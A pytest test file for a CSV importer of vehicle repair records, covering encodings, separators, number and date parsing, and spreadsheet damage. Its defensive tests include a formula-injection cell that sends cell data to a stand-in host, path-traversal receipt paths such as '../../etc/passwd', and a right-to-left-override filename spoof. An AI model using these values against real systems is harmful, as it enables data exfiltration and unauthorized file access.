"""CSV as people really save it."""

from datetime import date
from decimal import Decimal

import pytest

HEAD = "id,action,what,part_number,quantity,price,total,fitted_on,why\n"
ROW = 'P1,replace,"Disc, left",0047,2,48.50,97.00,2026-03-18,worn\n'


def parts(job, content):
    job.write("parts.csv", content)
    return job.load()


def check_first(part):
    assert (part.id, part.what, part.part_number) == ("P1", "Disc, left", "0047")
    assert (part.quantity, part.price, part.total) == (Decimal(2), Decimal("48.50"), Decimal("97.00"))
    assert part.fitted_on == date(2026, 3, 18)
    assert part.bad == frozenset()


@pytest.mark.parametrize(
    "encode",
    [
        lambda t: t.encode(),
        lambda t: b"\xef\xbb\xbf" + t.encode(),
        lambda t: t.encode("utf-16"),
        lambda t: b"\xfe\xff" + t.encode("utf-16-be"),
        lambda t: t.encode("utf-32"),
        lambda t: t.replace("\n", "\r\n").encode(),
        lambda t: t.replace("\n", "\r").encode(),
        lambda t: ("sep=,\r\n" + t).encode(),
        lambda t: (t + "\n\n,,,,,,,,\n").encode(),
        lambda t: t.rstrip("\n").encode(),
        lambda t: t.replace("part_number", " Part Number ").replace("fitted_on", "FITTED-ON").encode(),
    ],
)
def test_encodings_line_endings_and_dress(job, encode):
    loaded = parts(job, encode(HEAD + ROW))
    assert loaded.raised == ()
    assert len(loaded.job.parts) == 1
    check_first(loaded.job.parts[0])
    assert loaded.job.parts[0].place.row == 2


@pytest.mark.parametrize("sign", [";", "\t"])
def test_semicolons_and_tabs_with_decimal_commas(job, sign):
    row = ["P1", "replace", '"Disc, left"', "0047", "2", "48,50", "97,00", "2026-03-18", "worn"]
    text = HEAD.replace(",", sign) + sign.join(row) + "\n"
    loaded = parts(job, text)
    assert loaded.raised == ()
    check_first(loaded.job.parts[0])


def test_a_header_of_one_known_column_among_strange_ones_still_tells_the_separator(job):
    loaded = parts(job, 'id;"a,b";"c,d";action;what\nP1;;;replace;Disc\n')
    assert loaded.job.parts[0].what == "Disc"
    assert [r.code for r in loaded.raised] == ["load.unknown-column", "load.unknown-column"]


def test_rows_are_counted_as_a_spreadsheet_shows_them(job):
    loaded = parts(job, "\n" + HEAD + '\nP1,replace,"Disc\r\nleft, ""worn""",0047\n\nP2,replaced,Pad\n')
    assert [p.place.row for p in loaded.job.parts] == [4, 6]
    assert loaded.job.parts[0].what == 'Disc\nleft, "worn"'
    assert [str(r.place) for r in loaded.raised] == ["parts.csv, row 6, column action"]


@pytest.mark.parametrize(
    ("content", "code", "says"),
    [
        (b"", "load.not-a-table", "empty"),
        (b"\xef\xbb\xbf\n\n", "load.not-a-table", "empty"),
        (HEAD.encode() + "P1,replace,Bremsscheibe für vorn\n".encode("cp1252"), "load.not-utf8", "0xfc, which is ü"),
        ((HEAD + ROW).encode("utf-16-le"), "load.not-utf8", "UTF-16 text without the mark"),
        (b"\xff\xfeabc", "load.not-utf8", "breaks off"),
        (HEAD.encode() + b"P1,re\x00place,Disc\n", "load.not-utf8", "line 2 holds a zero byte"),
        (b"PK\x03\x04rest", "load.not-a-table", "a workbook or a ZIP archive"),
        (b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1", "load.not-a-table", "an old workbook"),
        (b"number|name\n1|2\n", "load.not-a-table", "none of the headings"),
        (b"id|action|what\nP1|replace|Disc\n", "load.not-a-table", "separated by |"),
        (b"a,b,c\n1,2,3\n", "load.not-a-table", "none of the headings"),
    ],
)
def test_files_that_are_no_such_table(job, one, content, code, says):
    job.write("parts.csv", content)
    found, place, said = one()
    assert (found, place) == (code, "parts.csv")
    assert says in said
    assert "parts" in job.load().job.bad


@pytest.mark.parametrize(
    ("rows", "row", "says"),
    [
        (ROW + 'P2,replace,"Pad,x\nP3,replace,Pad\n', 3, "never closed"),
        (ROW + 'P2,replace,"Pad" front,x\n', 3, "closing quotation mark"),
        (ROW + "P2,replace," + "x" * 140_000 + "\n", 3, "131,072"),
    ],
)
def test_a_broken_row_ends_the_table_but_keeps_what_stands_before(job, one, rows, row, says):
    job.write("parts.csv", HEAD + rows)
    code, place, said = one()
    assert (code, place) == ("load.not-a-table", f"parts.csv, row {row}")
    assert says in said
    check_first(job.load().job.parts[0])
    assert "parts" in job.load().job.bad


def test_too_big_is_refused_unread(job, one):
    with (job.root / "parts.csv").open("r+b") as file:
        file.truncate(30_000_000)
    assert one()[:2] == ("load.too-big", "parts.csv")


def test_too_many_rows(job, one):
    job.write("approvals.csv", "id\n" + "\n" * 50_001)
    assert one()[:2] == ("load.too-big", "approvals.csv, row 50001")


def test_a_row_too_long_is_not_guessed_at(job, one):
    job.write("parts.csv", "id,action,what,price\nP1,replace,Disc, left,48.50\nP2,replace,Pad,9\n")
    code, place, says = one()
    assert (code, place) == ("load.ragged-row", "parts.csv, row 2")
    assert "5 cells under 4" in says
    first, second = job.load().job.parts
    assert first.id == "P1"
    assert {"action", "what", "price"} <= first.bad
    assert second.what == "Pad"


def test_short_rows_and_extra_separators_at_the_end_are_fine(job):
    loaded = parts(job, "id,action,what,price,,\nP1,replace,Disc\nP2,replace,Pad,9,,,\n")
    assert loaded.raised == ()
    assert [p.price for p in loaded.job.parts] == [None, Decimal(9)]


def test_headings_unknown_twice_and_blank(job):
    job.write("parts.csv", "id,action,what,partnumber,What,,price\nP1,replace,Disc,1,Drum,lost,9\n")
    assert job.said() == [
        ("load.unknown-column", "parts.csv, row 1, column partnumber"),
        ("load.duplicate-column", "parts.csv, row 1, column What"),
        ("load.unknown-column", "parts.csv, row 2"),
    ]
    raised = job.load().raised
    assert "Is part_number meant?" in raised[0].says
    assert job.load().job.parts[0].what == "Disc"
    assert job.load().job.parts[0].price == 9


@pytest.mark.parametrize(
    ("sign", "cells", "price", "code"),
    [
        (",", '"12,5"', None, "load.decimal-comma"),
        (",", '"1,234"', None, "load.decimal-comma"),
        (",", '"1,234.50"', None, "load.bad-number"),
        (",", "1 234", None, "load.bad-number"),
        (",", "1'234.50", None, "load.bad-number"),
        (",", "1\u202f234", None, "load.bad-number"),
        (",", "12.5", "12.5", None),
        (",", "1.234", "1.234", None),
        (",", "−3", "-3", None),
        (",", "+3", "3", None),
        (",", "12.", None, "load.bad-number"),
        (",", ".5", None, "load.bad-number"),
        (",", "1e3", None, "load.bad-number"),
        (",", "12 EUR", None, "load.bad-number"),
        (",", "٣", None, "load.bad-number"),
        (",", "1_000", None, "load.bad-number"),
        (",", "nan", None, "load.bad-number"),
        (",", "9" * 30, None, "load.bad-number"),
        (";", "12,5", "12.5", None),
        (";", "1,234", "1.234", None),
        (";", "1.234,50", None, "load.bad-number"),
        (";", "1,234,567", None, "load.bad-number"),
        ("\t", "12,5", "12.5", None),
        ("\t", "1,234", None, "load.decimal-comma"),
    ],
)
def test_numbers(job, sign, cells, price, code):
    loaded = parts(job, "id,action,what,price\nP1,replace,Disc,@\n".replace(",", sign).replace("@", cells))
    assert [r.code for r in loaded.raised] == ([code] if code else [])
    part = loaded.job.parts[0]
    assert part.price == (Decimal(price) if price else None)
    assert ("price" in part.bad) is (code is not None)
    if code:
        assert str(loaded.raised[0].place) == "parts.csv, row 2, column price"


@pytest.mark.parametrize(
    ("sign", "other", "cell", "price"),
    [
        ("\t", "2,5", "1,234", "1.234"),  # a comma that can only be decimal settles it
        (";", "2.5", "1,234", None),  # a point elsewhere unsettles it
        (";", "2,5", "1.234", None),  # so does this: 1.234 may be a thousand
        (";", "2.5", "12,5", "12.5"),  # no thousands separator stands before two digits
    ],
)
def test_what_one_number_says_of_another_in_the_same_table(job, sign, other, cell, price):
    rows = [["id", "action", "what", "quantity", "price"], ["P1", "replace", "Disc", other, cell]]
    loaded = parts(job, "\n".join(sign.join(row) for row in rows))
    assert loaded.job.parts[0].price == (Decimal(price) if price else None)
    assert bool(loaded.raised) is (price is None)


@pytest.mark.parametrize(
    ("cell", "code"),
    [
        ("1.23E+08", "load.spreadsheet-damage"),
        ('"1,23E+08"', "load.spreadsheet-damage"),
        ("#REF!", "load.spreadsheet-damage"),
        ("#NAME?", "load.spreadsheet-damage"),
        ("#N/A", "load.spreadsheet-damage"),
        ("Err:508", "load.spreadsheet-damage"),
        ("########", "load.spreadsheet-damage"),
        ("03-Dez", None),
        ("3-Dec", "load.date-for-number"),
        ("Dec-45", "load.date-for-number"),
        ("2026-12-03", "load.date-for-number"),
        ("03/12/2026", "load.date-for-number"),
        ("12.03.2026", "load.date-for-number"),
        ("0047-12-03", "load.date-for-number"),
        ("12-03-45", None),
        ("BB 0040.127-L", None),
        ("1E5", None),
        ("E+08", None),
        ("00712-4", None),
    ],
)
def test_what_a_spreadsheet_does_to_part_numbers(job, cell, code):
    loaded = parts(job, f"id,action,what,part_number\nP1,replace,Disc,{cell}\n")
    assert [r.code for r in loaded.raised] == ([code] if code else [])
    part = loaded.job.parts[0]
    assert part.part_number == ("" if code == "load.spreadsheet-damage" else cell)
    assert ("part_number" in part.bad) is (code == "load.spreadsheet-damage")


@pytest.mark.parametrize("text", ['=HYPERLINK("http://example.invalid/?"&A1;"open")', "@SUM(1+1)", "+1", "-rf.jpg"])
def test_a_cell_that_looks_like_a_formula_is_text(job, text):
    loaded = parts(job, 'id,action,what\nP1,replace,"{}"\n'.format(text.replace('"', '""')))
    assert loaded.raised == ()
    assert loaded.job.parts[0].what == text


@pytest.mark.parametrize(
    ("cell", "hint"),
    [
        ("02/03/2026", "2026-02-03 or 2026-03-02"),
        ("23.3.2026", "Write 2026-03-23"),
        ("2026/03/02", "Write 2026-03-02"),
        ("2026-02-30", "no such day"),
        ("2023-02-29", "no such day"),
        ("02/03/26", "four digits"),
        ("yesterday", "year-month-day"),
        ("20260302", "year-month-day"),
        ("2026-W10-1", "year-month-day"),
        ("0026-03-02", ""),
        ("2026-03-02T10:00", ""),
    ],
)
def test_dates(job, one, cell, hint):
    job.write("parts.csv", f"id,action,what,fitted_on\nP1,replace,Disc,{cell}\n")
    code, place, says = one()
    assert (code, place) == ("load.bad-date", "parts.csv, row 2, column fitted_on")
    assert hint in says
    part = job.load().job.parts[0]
    assert part.fitted_on is None
    assert not part.lacks("fitted_on")


def test_words_zones_paths_and_lists_are_taken_whatever_their_dress(job):
    job.write(
        "parts.csv",
        "id,action,what,zone,source,receipt,currency,photos\n"
        "P1,Replace,Disc,Brake front LEFT,New old stock,documents\\r.pdf,eur,./a.jpg | b\\c.jpg |\n",
    )
    loaded = job.load()
    assert loaded.raised == ()
    part = loaded.job.parts[0]
    assert (part.action, part.source, part.zone) == ("replace", "new-old-stock", "brake-front-left")
    assert (part.receipt, part.currency, part.photos) == ("documents/r.pdf", "EUR", ("a.jpg", "b/c.jpg"))


@pytest.mark.parametrize("path", ["../../etc/passwd", "/etc/passwd", "C:\\papers\\r.pdf", "documents/../../r.pdf"])
def test_paths_that_leave_the_folder_are_refused(job, one, path):
    job.write("parts.csv", f"id,action,what,receipt\nP1,replace,Disc,{path}\n")
    assert one()[:2] == ("load.bad-value", "parts.csv, row 2, column receipt")


def test_a_broken_row_still_gives_what_could_be_read(job):
    job.write("parts.csv", "id,action,what,quantity,fitted_on,why\nP1,renew,,many,soon,worn\n")
    loaded = job.load()
    assert {(r.code, r.place.column) for r in loaded.raised} == {
        ("load.bad-value", "action"),
        ("load.missing-field", "what"),
        ("load.bad-number", "quantity"),
        ("load.bad-date", "fitted_on"),
    }
    part = loaded.job.parts[0]
    assert (part.id, part.why) == ("P1", "worn")
    assert part.bad == {"action", "what", "quantity", "fitted_on"}


def test_an_id_used_twice_names_both_rows(job, one):
    job.write("parts.csv", "id,action,what\nP1,replace,Disc\nP1,replace,Pad\n")
    code, place, says = one()
    assert (code, place) == ("load.duplicate-id", "parts.csv, row 3, column id")
    assert "row 2" in says
    assert len(job.load().job.parts) == 2


def test_readings_keep_what_was_written_and_its_number(job):
    job.write(
        "readings.csv",
        "id;stage;kind;value;unit;on;uncertainty\n"
        "R1;intake;film_thickness;112,5;µm;2026-03-02T10:05;2,5\n"
        "R2;intake;tyre_date_code;0423;;2026-03-02;\n"
        "R3;intake;colour;52.1 3.2 -4.4;;2026-03-02T10:05:30+02:00;\n"
        "R4;intake;film_thickness;1'200;µm;2026-03-02 10:05;\n",
    )
    loaded = job.load()
    first, code, triple, bad = loaded.job.readings
    assert (first.value_text, first.value, first.expanded_uncertainty) == ("112.5", Decimal("112.5"), Decimal("2.5"))
    assert first.on.isoformat() == "2026-03-02T10:05:00+00:00"
    assert (code.value_text, code.value, code.on) == ("0423", Decimal(423), date(2026, 3, 2))
    assert (triple.value_text, triple.value, triple.on.utcoffset().seconds) == ("52.1 3.2 -4.4", None, 7200)
    assert (bad.value, bad.value_text) == (None, "")
    assert {"value", "value_text"} <= bad.bad
    assert [(r.code, r.place.column) for r in loaded.raised] == [("load.bad-number", "value")]


def test_an_instant_no_clock_shows_is_a_finding(job, one):
    job.write("readings.csv", "id,stage,kind,value,on\nR1,intake,x,1,2026-02-30T10:00\n")
    code, place, _ = one()
    assert (code, place) == ("load.bad-date", "readings.csv, row 2, column on")
    assert job.load().job.readings[0].bad == {"on"}


@pytest.mark.parametrize("text", ["a\x07b", "photo‮gpj", "a\ufffeb", "a\U0010ffffb", "Br�ckner"])
def test_characters_that_cannot_be_read_on_paper_are_refused(job, one, text):
    job.write("parts.csv", f"id,action,what\nP1,replace,{text}\n")
    code, place, says = one()
    assert (code, place) == ("load.odd-character", "parts.csv, row 2, column what")
    assert all(c.isprintable() for c in says)


def test_a_missing_table_is_said_with_what_it_is_for(job, one):
    (job.root / "receipts.csv").unlink()
    code, place, says = one()
    assert (code, place) == ("load.missing-table", "receipts.csv")
    assert "one row for each receipt" in says
